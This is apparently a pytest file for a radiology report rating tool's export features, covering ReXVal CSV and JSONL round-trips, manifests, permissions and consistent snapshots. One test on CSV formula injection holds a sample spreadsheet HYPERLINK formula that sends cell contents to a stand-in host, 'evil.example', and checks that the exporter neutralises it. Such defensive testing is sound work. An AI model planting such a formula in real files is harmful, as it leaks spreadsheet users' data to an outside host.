"""Exporting studies (ReXVal files, JSONL, manifest) and the dataset commands."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import random
from pathlib import Path

import numpy as np
import pytest
from PIL import Image as PILImage
from sqlalchemy import select

from radconcord.backend import config
from radconcord.backend.cli import main
from radconcord.backend.datasets import rexval
from radconcord.backend.datasets.pairs import parse_cases
from radconcord.backend.errors import InvalidInput, NotFound, PermissionDenied
from radconcord.backend.imaging.deid import DEID_PROFILE
from radconcord.backend.services.transfer import exports
from radconcord.backend.services.transfer.exports import export_study
from radconcord.backend.services.transfer.imports import import_cases, import_rexval
from radconcord.backend.types import Actor, CandidateInput, CaseInput, ImageInput
from radconcord.db.models import Assignment, Pair, Rating, User

FIXTURE = Path(__file__).resolve().parent.parent / "fixtures" / "rexval_mini"
ADMIN = Actor.system()
GT, RATINGS = rexval.GT_FILENAME, rexval.RATINGS_FILENAME


@pytest.fixture(autouse=True)
def _cheap_argon2(monkeypatch):
    """Real argon2id with cheap parameters: the importer hashes one password per rater."""
    from argon2 import PasswordHasher

    from radconcord.backend.services.transfer import imports

    monkeypatch.setattr(imports, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024,
                                                           parallelism=1))


def _import_fixture(db, gt=FIXTURE / GT, ratings=FIXTURE / RATINGS, name="rexval"):
    return import_rexval(db, ADMIN, gt_path=gt, ratings_path=ratings, study_name=name)


def _alembic_head() -> str:
    versions = Path(config.REPO_ROOT) / "db" / "migrations" / "versions"
    revisions, parents = set(), set()
    for f in versions.glob("*.py"):
        text = f.read_text()
        for line in text.splitlines():
            if line.startswith("revision ="):
                revisions.add(line.split("=")[1].strip().strip("'\""))
            if line.startswith("down_revision =") and "None" not in line:
                parents.add(line.split("=")[1].strip().strip("'\""))
    (head,) = revisions - parents
    return head


def test_rexval_round_trip_is_byte_identical(any_db, tmp_path):
    """On SQLite and PostgreSQL: rows come back in file order with identical bytes."""
    db = any_db
    _import_fixture(db)
    out = tmp_path / "export"
    summary = export_study(db, ADMIN, study_name="rexval", fmt="rexval", out_dir=out)
    assert summary.files == (GT, RATINGS, "manifest.json")
    assert (out / GT).read_bytes() == (FIXTURE / GT).read_bytes()
    assert (out / RATINGS).read_bytes() == (FIXTURE / RATINGS).read_bytes()
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["app_version"] == config.APP_VERSION
    assert manifest["schema_version"] == _alembic_head()
    dt.datetime.fromisoformat(manifest["exported_at"])
    assert manifest["study"]["provenance"]["files"][GT] == hashlib.sha256(
        (FIXTURE / GT).read_bytes()).hexdigest()
    for name in (GT, RATINGS):
        assert manifest["files"][name]["sha256"] == hashlib.sha256(
            (out / name).read_bytes()).hexdigest()
    # 36 ratings = 12 pairs x 3 raters (432 rows are the grid cells).
    assert manifest["counts"] == {"pairs": 12, "rating_rows": 432, "raters": 3, "ratings": 36}
    assert manifest["scores"] is None and manifest["timing"] is None


def test_rexval_export_keeps_the_imported_row_order(db, tmp_path):
    lines = (FIXTURE / RATINGS).read_text().splitlines()
    body = lines[1:]
    random.Random(3).shuffle(body)
    shuffled = tmp_path / RATINGS
    shuffled.write_text("\n".join([lines[0], *body]) + "\n")
    _import_fixture(db, ratings=shuffled)
    export_study(db, ADMIN, study_name="rexval", fmt="rexval", out_dir=tmp_path / "out")
    assert (tmp_path / "out" / RATINGS).read_bytes() == shuffled.read_bytes()


def test_jsonl_export_with_images_and_reimport(db, tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    PILImage.fromarray(np.full((10, 12), 90, np.uint8)).save(src / "a_pa.png")
    cases = [
        CaseInput("a", "Ref A.", [CandidateInput("Cand A1.", "gen-A"),
                                  CandidateInput("Cand A2.", "gen-B")],
                  [ImageInput(src / "a_pa.png")]),
        CaseInput("b", "Ref B.", [CandidateInput("Cand B1.", "gen-A")]),
    ]
    import_cases(db, ADMIN, study_name="js", cases=cases)
    with db.begin() as s:
        rater = User(username="doc", role="rater", password_hash="x")
        s.add(rater)
        s.flush()
        pair = s.scalar(select(Pair).where(Pair.position == 1))
        s.add(Rating(rater_id=rater.id, pair_id=pair.id, category=2, significant=True, count=1))
    out = tmp_path / "jsonl"
    summary = export_study(db, ADMIN, study_name="js", fmt="jsonl", out_dir=out)
    pairs = [json.loads(line) for line in (out / "pairs.jsonl").read_text().splitlines()]
    assert [(p["case_id"], p["source"], p["candidate"]) for p in pairs] == [
        ("a", "gen-A", "Cand A1."), ("a", "gen-B", "Cand A2."), ("b", "gen-A", "Cand B1.")]
    image = pairs[0]["images"][0]
    assert image["view"] == "PA" and (out / image["path"]).is_file()
    assert hashlib.sha256((out / image["path"]).read_bytes()).hexdigest() == image["sha256"]
    ratings = [json.loads(line) for line in (out / "ratings.jsonl").read_text().splitlines()]
    # "pair_number" is the 1-based number every page, and the scores and timing files of
    # the same export, give the pair ("position" stays: the stored 0-based order).
    assert [(p["position"], p["pair_number"]) for p in pairs] == [(0, 1), (1, 2), (2, 3)]
    assert ratings == [{"position": 1, "pair_number": 2, "pair_id": pairs[1]["pair_id"],
                        "case_id": "a", "source": "gen-B", "rater_index": 0, "category": 2,
                        "significant": True, "count": 1}]
    manifest = json.loads((out / "manifest.json").read_text())
    assert set(manifest["files"]) == set(summary.files) - {"manifest.json"}
    assert image["path"] in manifest["files"]
    # The exported pairs file is a valid import file, images included.
    again = parse_cases(out / "pairs.jsonl")
    assert [(c.case_id, len(c.candidates), len(c.images)) for c in again] == [
        ("a", 2, 1), ("b", 1, 0)]


def test_app_study_exports_rexval_with_zero_fill_and_canonical_order(db, tmp_path):
    cases = [CaseInput(f"c{i}", f"Ref {i}.", [CandidateInput(f"A{i}.", "gen-A"),
                                              CandidateInput(f"B{i}.", "gen-B")])
             for i in range(2)]
    import_cases(db, ADMIN, study_name="app", cases=cases)
    with db.begin() as s:
        doc = User(username="doc", role="rater", password_hash="x")
        s.add(doc)
        s.flush()
        pairs = s.scalars(select(Pair).order_by(Pair.position)).all()
        s.add(Rating(rater_id=doc.id, pair_id=pairs[3].id, category=1, significant=True,
                     count=2))
        s.add(Assignment(study_id=pairs[0].study_id, rater_id=doc.id, pair_id=pairs[0].id,
                         order_index=0, completed_at=dt.datetime.now(dt.UTC)))
    out = tmp_path / "out"
    export_study(db, ADMIN, study_name="app", fmt="rexval", out_dir=out)
    with open(out / GT, newline="") as fh:
        gt_rows = list(csv.reader(fh))
    assert gt_rows == [["study_id", "gt_report", "gen-A", "gen-B"],
                       ["c0", "Ref 0.", "A0.", "B0."], ["c1", "Ref 1.", "A1.", "B1."]]
    with open(out / RATINGS, newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    # 12 zero cells for the completed pair 0, then the single stored cell of pair 3.
    assert len(rows) == 13
    assert rows[0] == ["0", "gen-A", "1", "0", "True", "0"]
    assert rows[1] == ["0", "gen-A", "1", "0", "False", "0"]
    assert rows[-1] == ["1", "gen-B", "1", "0", "True", "2"]


def test_rexval_layout_refuses_two_candidates_of_one_source(db, tmp_path):
    import_cases(db, ADMIN, study_name="dup", cases=[
        CaseInput("x", "R.", [CandidateInput("C1.", "g"), CandidateInput("C2.", "g")])])
    with pytest.raises(InvalidInput, match="two candidates from source 'g'; use jsonl"):
        export_study(db, ADMIN, study_name="dup", fmt="rexval", out_dir=tmp_path / "o")
    assert not (tmp_path / "o").exists()
    assert not list(tmp_path.glob(".o.tmp-*"))


def test_failure_leaves_nothing_half_written(db, tmp_path, monkeypatch):
    _import_fixture(db)

    def boom(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports.rexval, "write_ratings", boom)
    with pytest.raises(OSError, match="disk full"):
        export_study(db, ADMIN, study_name="rexval", fmt="rexval", out_dir=tmp_path / "out")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith((".out", "out"))) == []


def test_export_checks(db, tmp_path):
    _import_fixture(db)
    rater = Actor(user_id=1, username="rexval_rater_0", role="rater")
    with pytest.raises(PermissionDenied):
        export_study(db, rater, study_name="rexval", fmt="rexval", out_dir=tmp_path / "a")
    with pytest.raises(NotFound):
        export_study(db, ADMIN, study_name="nope", fmt="rexval", out_dir=tmp_path / "a")
    with pytest.raises(InvalidInput, match="unknown export format"):
        export_study(db, ADMIN, study_name="rexval", fmt="xml", out_dir=tmp_path / "a")
    busy = tmp_path / "busy"
    busy.mkdir()
    (busy / "keep.txt").write_text("mine")
    with pytest.raises(InvalidInput, match="not empty"):
        export_study(db, ADMIN, study_name="rexval", fmt="rexval", out_dir=busy)
    assert (busy / "keep.txt").read_text() == "mine"
    empty = tmp_path / "empty"
    empty.mkdir()
    export_study(db, ADMIN, study_name="rexval", fmt="jsonl", out_dir=empty)
    assert (empty / "manifest.json").is_file()


def test_commands_round_trip_and_user_errors(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("RADCONCORD_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    rc = main(["import-rexval", "--gt", str(FIXTURE / GT), "--ratings", str(FIXTURE / RATINGS),
               "--study", "cli"])
    assert rc == 0
    assert "12 pairs, 3 raters, 432 ratings" in capsys.readouterr().out
    rc = main(["export", "--study", "cli", "--format", "rexval", "--output",
               str(tmp_path / "out")])
    assert rc == 0
    assert (tmp_path / "out" / RATINGS).read_bytes() == (FIXTURE / RATINGS).read_bytes()
    assert not (tmp_path / "out" / "metric_scores.csv").exists()
    rc = main(["export", "--study", "cli", "--format", "jsonl", "--output",
               str(tmp_path / "full"), "--with-scores", "--with-timing"])
    assert rc == 0 and "wrote 6 files" in capsys.readouterr().out
    manifest = json.loads((tmp_path / "full" / "manifest.json").read_text())
    assert list(manifest["files"]) == ["pairs.jsonl", "ratings.jsonl", "metric_scores.jsonl",
                                       "assignments.jsonl", "activity_spans.jsonl"]
    # The ReXVal import gives each rater a completed assignment per rated pair; no spans.
    assert (manifest["timing"]["assignments"], manifest["timing"]["spans"]) == (36, 0)
    assert manifest["scores"]["rows"] == 0 and manifest["scores"]["keys"] == {}
    bad = tmp_path / "bad.csv"
    bad.write_text("case_id,reference,candidate\nc1,,x\n")
    rc = main(["import-pairs", "--input", str(bad), "--study", "p"])
    err = capsys.readouterr().err
    assert rc == 2
    assert err.strip().count("\n") == 0
    assert err.startswith("error: ") and "bad.csv: row 1 (line 2), field 'reference'" in err
    rc = main(["export", "--study", "missing", "--format", "jsonl", "--output",
               str(tmp_path / "o2")])
    assert rc == 2 and "no study named 'missing'" in capsys.readouterr().err
    good = tmp_path / "good.csv"
    good.write_text("case_id,reference,gen-A,gen-B\nc1,Ref.,A.,B.\n")
    assert main(["import-pairs", "--input", str(good), "--study", "p",
                 "--raters-per-pair", "2"]) == 0
    assert "2 pairs" in capsys.readouterr().out


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "@SUM(1)", "-1+2"]


def test_rexval_export_neutralises_formulas_and_imports_back(any_db, tmp_path):
    """OWASP CSV injection, on SQLite and PostgreSQL: every text cell of both ReXVal files
    that starts with = + - @ (tab, CR) gets a leading quote, numbers do not, and importing
    the export gives back the original texts."""
    db = any_db
    cases = [
        CaseInput("+c1", FORMULAS[0], [CandidateInput(FORMULAS[1], "=gen"),
                                       CandidateInput(FORMULAS[2], "plain")]),
        CaseInput("c2", "Ref.", [CandidateInput("\tTabbed.", "=gen"),
                                 CandidateInput("Cand.", "plain")]),
    ]
    import_cases(db, ADMIN, study_name="evil", cases=cases)
    with db.begin() as s:
        doc = User(username="doc", role="rater", password_hash="x")
        s.add(doc)
        s.flush()
        first = s.scalar(select(Pair).where(Pair.position == 0))
        s.add(Rating(rater_id=doc.id, pair_id=first.id, category=3, significant=False,
                     count=1))
    out = tmp_path / "out"
    export_study(db, ADMIN, study_name="evil", fmt="rexval", out_dir=out)
    with open(out / GT, encoding="utf-8", newline="") as fh:
        gt_rows = list(csv.reader(fh))
    assert gt_rows == [
        ["study_id", "gt_report", "'=gen", "plain"],
        ["'+c1", "'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2]],
        ["c2", "Ref.", "'\tTabbed.", "Cand."],
    ]
    with open(out / RATINGS, encoding="utf-8", newline="") as fh:
        rating_rows = list(csv.reader(fh))
    assert rating_rows[1] == ["0", "'=gen", "3", "0", "False", "1"]
    for row in rating_rows[1:]:
        assert row[0].isdigit() and row[2].isdigit() and row[5].isdigit()
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["deidentification"] == DEID_PROFILE
    # The export imports back to the same texts, and exports again byte for byte.
    import_rexval(db, ADMIN, gt_path=out / GT, ratings_path=out / RATINGS, study_name="again")
    back = tmp_path / "back"
    export_study(db, ADMIN, study_name="again", fmt="jsonl", out_dir=back)
    pairs = [json.loads(line) for line in (back / "pairs.jsonl").read_text().splitlines()]
    assert [(p["case_id"], p["reference"], p["source"], p["candidate"]) for p in pairs] == [
        ("+c1", FORMULAS[0], "=gen", FORMULAS[1]), ("+c1", FORMULAS[0], "plain", FORMULAS[2]),
        ("c2", "Ref.", "=gen", "\tTabbed."), ("c2", "Ref.", "plain", "Cand.")]
    again = tmp_path / "again"
    export_study(db, ADMIN, study_name="again", fmt="rexval", out_dir=again)
    assert (again / GT).read_bytes() == (out / GT).read_bytes()
    assert (again / RATINGS).read_bytes() == (out / RATINGS).read_bytes()


def test_every_export_manifest_records_the_deidentification_profile(db, tmp_path):
    _import_fixture(db)
    for fmt in exports.FORMATS:
        export_study(db, ADMIN, study_name="rexval", fmt=fmt, out_dir=tmp_path / fmt)
        manifest = json.loads((tmp_path / fmt / "manifest.json").read_text())
        assert manifest["deidentification"] == json.loads(json.dumps(DEID_PROFILE))
        assert {"profile", "options"} <= set(manifest["deidentification"])


def test_manifest_records_how_raters_saw_the_pairs(db, tmp_path):
    """The study's settings (e.g. difference highlighting) and their history go into the
    manifest, so an analysis of the export can say how the raters saw the pairs."""
    from radconcord.backend.services.study_admin import study_settings

    _import_fixture(db)
    before = export_study(db, ADMIN, study_name="rexval", fmt="jsonl", out_dir=tmp_path / "a")
    manifest = json.loads((before.out_dir / "manifest.json").read_text())
    assert manifest["study"]["settings"]["values"]["highlight_differences"] is False
    study_settings.update_study_settings(db, ADMIN, study_name="rexval",
                                         highlight_differences=True)
    after = export_study(db, ADMIN, study_name="rexval", fmt="jsonl", out_dir=tmp_path / "b")
    settings = json.loads((after.out_dir / "manifest.json").read_text())["study"]["settings"]
    assert settings["values"]["highlight_differences"] is True
    assert [h["key"] for h in settings["history"]] == ["highlight_differences"]


def test_the_files_of_one_export_agree_while_a_rater_saves(any_db, tmp_path, monkeypatch):
    """A rater completes pair 2 while the export runs (after the ratings are read, before
    the assignments are): the files are one snapshot, so neither shows it, instead of an
    assignment marked done whose ratings are missing. On SQLite and PostgreSQL."""
    db = any_db
    import_cases(db, ADMIN, study_name="app", cases=[
        CaseInput(f"c{i}", f"Ref {i}.", [CandidateInput(f"A{i}.", "gen-A")]) for i in range(2)])
    with db.begin() as s:
        doc = User(username="doc", role="rater", password_hash="x")
        s.add(doc)
        s.flush()
        pairs = s.scalars(select(Pair).order_by(Pair.position)).all()
        for i, pair in enumerate(pairs):
            s.add(Assignment(study_id=pair.study_id, rater_id=doc.id, pair_id=pair.id,
                             order_index=i,
                             completed_at=dt.datetime.now(dt.UTC) if i == 0 else None))
        second, doc_id = pairs[1].id, doc.id
    load_extras = exports._load_extras

    def save_meanwhile(*args, **kwargs):
        with db.begin() as s:
            s.add(Rating(rater_id=doc_id, pair_id=second, category=2, significant=True,
                         count=1))
            done = s.scalar(select(Assignment).where(Assignment.pair_id == second))
            done.completed_at = dt.datetime.now(dt.UTC)
        return load_extras(*args, **kwargs)

    monkeypatch.setattr(exports, "_load_extras", save_meanwhile)
    out = tmp_path / "out"
    export_study(db, ADMIN, study_name="app", fmt="jsonl", out_dir=out, with_timing=True)
    ratings = [json.loads(line) for line in (out / "ratings.jsonl").read_text().splitlines()]
    assigned = [json.loads(line)
                for line in (out / "assignments.jsonl").read_text().splitlines()]
    assert {r["pair_number"] for r in ratings} == {1} and len(ratings) == 12
    assert [(a["pair_number"], a["completed_at"] is not None) for a in assigned] == [
        (1, True), (2, False)]
    # The save itself is kept: the next export has it.
    monkeypatch.undo()
    export_study(db, ADMIN, study_name="app", fmt="jsonl", out_dir=tmp_path / "again",
                 with_timing=True)
    again = (tmp_path / "again" / "assignments.jsonl").read_text().splitlines()
    assert [json.loads(line)["completed_at"] is not None for line in again] == [True, True]
